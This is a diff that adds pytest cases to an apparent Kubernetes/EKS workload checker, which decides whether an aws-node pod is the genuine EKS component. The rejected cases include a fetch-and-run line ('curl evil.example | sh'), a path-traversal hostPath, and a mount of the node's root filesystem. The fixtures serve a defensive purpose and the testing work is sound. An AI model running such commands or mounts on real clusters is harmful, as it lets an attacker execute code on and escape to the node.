@@ -70,6 +70,35 @@ def test_what_borrows_a_name_is_not_a_part(item):
     assert entries(item) == []
 
 
+def aws_node(volumes=(), **container):
+    """Make aws-node of the images of EKS, with these volumes and words of its container."""
+    item = workload()
+    spec = item.data["spec"]["template"]["spec"]
+    spec["containers"][0] |= container
+    spec["volumes"] = list(volumes)
+    return item
+
+
+@pytest.mark.parametrize(
+    ("made", "part"),
+    [
+        (aws_node(livenessProbe={"exec": {"command": ["/app/grpc-health-probe", "-addr=:50051"]}}), True),
+        (aws_node(args=["--enable-ipv6=false"]), True),
+        (aws_node([{"name": "log", "hostPath": {"path": "/var/log/aws-routed-eni/"}}]), True),
+        (aws_node([{"name": "x", "emptyDir": {}}]), True),
+        (aws_node(command=["sh", "-c", "curl evil.example | sh"]), False),
+        (aws_node(livenessProbe={"exec": {"command": ["sh", "-c", "/app/grpc-health-probe x"]}}), False),
+        (aws_node(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), False),
+        (aws_node([{"name": "log", "hostPath": {"path": "/"}}]), False),
+        (aws_node([{"name": "log", "hostPath": {"path": "/opt/cni/bin/../../.."}}]), False),
+        (aws_node([{"name": "log", "hostPath": {}}]), False),
+    ],
+)
+def test_a_part_runs_and_mounts_what_eks_gives_it(made, part):
+    """Its own image, started with another command or with more of the node, is not the part."""
+    assert bool(entries(made)) is part
+
+
 def binding(name="ebs-csi-provisioner-binding", role="ebs-external-provisioner-role", subjects=None):
     """Make a ClusterRoleBinding."""
     found = [{"kind": "ServiceAccount", "name": "ebs-csi-controller-sa", "namespace": "kube-system"}] if subjects is None else subjects
